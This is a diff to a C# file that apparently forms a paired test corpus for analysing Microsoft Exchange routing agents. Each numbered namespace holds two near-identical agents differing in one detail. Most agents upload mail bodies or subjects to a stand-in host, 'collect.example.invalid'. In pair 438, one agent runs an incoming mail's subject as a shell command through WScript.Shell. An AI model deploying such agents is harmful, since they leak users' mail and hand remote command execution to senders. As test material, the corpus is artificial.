@@ -7,8 +7,10 @@ using System.Collections.Generic;
 using System.IO;
 using System.Linq;
 using System.Net;
+using System.Reflection;
 using System.Text;
 using System.Text.RegularExpressions;
+using System.Xml.Serialization;
 using Microsoft.Exchange.Data.Transport;
 using Microsoft.Exchange.Data.Transport.Email;
 using Microsoft.Exchange.Data.Transport.Routing;
@@ -1395,6 +1397,387 @@ namespace Txray.Pairs.P432
             if (kept.Item2)
             {
                 new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+}
+
+// 433: a queue that another event empties, filled for some mails and for all
+namespace Txray.Pairs.P433
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private readonly Queue<string> waiting = new Queue<string>();
+
+        private IEnumerable<string> Emptied()
+        {
+            while (waiting.Count > 0)
+            {
+                yield return waiting.Dequeue();
+            }
+        }
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            foreach (string kept in Emptied())
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", kept);
+            }
+
+            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
+            {
+                waiting.Enqueue(e.MailItem.Message.Subject);
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private readonly Queue<string> waiting = new Queue<string>();
+
+        private IEnumerable<string> Emptied()
+        {
+            while (waiting.Count > 0)
+            {
+                yield return waiting.Dequeue();
+            }
+        }
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            foreach (string kept in Emptied())
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", kept);
+            }
+
+            waiting.Enqueue(e.MailItem.Message.Subject);
+        }
+    }
+}
+
+// 434: whether an iterator of the agent gives anything, and whether it gives nothing
+namespace Txray.Pairs.P434
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private static IEnumerable<string> Found(MailItem item)
+        {
+            foreach (EnvelopeRecipient recipient in item.Recipients)
+            {
+                if (recipient.Address.DomainPart == "fabrikam.example")
+                {
+                    yield return recipient.Address.ToString();
+                }
+            }
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (Found(e.MailItem).Any())
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private static IEnumerable<string> Found(MailItem item)
+        {
+            foreach (EnvelopeRecipient recipient in item.Recipients)
+            {
+                if (recipient.Address.DomainPart == "fabrikam.example")
+                {
+                    yield return recipient.Address.ToString();
+                }
+            }
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            if (!Found(e.MailItem).Any())
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+}
+
+// 435: a test chosen from a table by a key of the code, and by one that may come from outside
+namespace Txray.Pairs.P435
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            Dictionary<string, Func<MailItem, bool>> table = new Dictionary<string, Func<MailItem, bool>>
+            {
+                { "sender", item => item.FromAddress.DomainPart == "fabrikam.example" },
+                { "many", item => item.Recipients.Count > 3 }
+            };
+            if (table["sender"](e.MailItem))
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            Dictionary<string, Func<MailItem, bool>> table = new Dictionary<string, Func<MailItem, bool>>
+            {
+                { "sender", item => item.FromAddress.DomainPart == "fabrikam.example" },
+                { "many", item => item.Recipients.Count > 3 }
+            };
+            if (table[Environment.GetEnvironmentVariable("PAIR") ?? "sender"](e.MailItem))
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+}
+
+// 436: a place that is in the code, and one that is there when nothing else is set
+namespace Txray.Pairs.P436
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            string place = "https://collect.example.invalid/pair";
+            new WebClient().UploadString(place, e.MailItem.Message.Subject);
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            string place = Environment.GetEnvironmentVariable("PAIR") ?? "https://collect.example.invalid/pair";
+            new WebClient().UploadString(place, e.MailItem.Message.Subject);
+        }
+    }
+}
+
+// 437: a setting that a file may put in a field, and one that stays as it is
+namespace Txray.Pairs.P437
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        private sealed class Settings
+        {
+            public string Domain = "fabrikam.example";
+        }
+
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            Settings settings = (Settings)new XmlSerializer(typeof(Settings)).Deserialize(File.OpenRead("C:\\Pair\\pair.xml"));
+            if (e.MailItem.FromAddress.DomainPart == settings.Domain)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        private sealed class Settings
+        {
+            public string Domain = "fabrikam.example";
+        }
+
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            Settings settings = new Settings();
+            if (e.MailItem.FromAddress.DomainPart == settings.Domain)
+            {
+                new WebClient().UploadString("https://collect.example.invalid/pair", new StreamReader(e.MailItem.Message.Body.GetContentReadStream()).ReadToEnd());
+            }
+        }
+    }
+}
+
+// 438: an outside object that is made for every mail and given the subject for some, and nothing of the mail
+namespace Txray.Pairs.P438
+{
+    public class ClaimFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Claim();
+        }
+    }
+
+    public class OtherFactory : RoutingAgentFactory
+    {
+        public override RoutingAgent CreateAgent(SmtpServer server)
+        {
+            return new Other();
+        }
+    }
+
+    public class Claim : RoutingAgent
+    {
+        public Claim()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            object shell = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));
+            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
+            {
+                shell.GetType().InvokeMember("Run", BindingFlags.InvokeMethod, null, shell, new object[] { e.MailItem.Message.Subject });
+            }
+        }
+    }
+
+    public class Other : RoutingAgent
+    {
+        public Other()
+        {
+            OnSubmittedMessage += Submitted;
+        }
+
+        private void Submitted(SubmittedMessageEventSource source, QueuedMessageEventArgs e)
+        {
+            object shell = Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));
+            if (e.MailItem.FromAddress.DomainPart == "fabrikam.example")
+            {
+                shell.GetType().InvokeMember("Run", BindingFlags.InvokeMethod, null, shell, new object[] { "hostname" });
             }
         }
     }
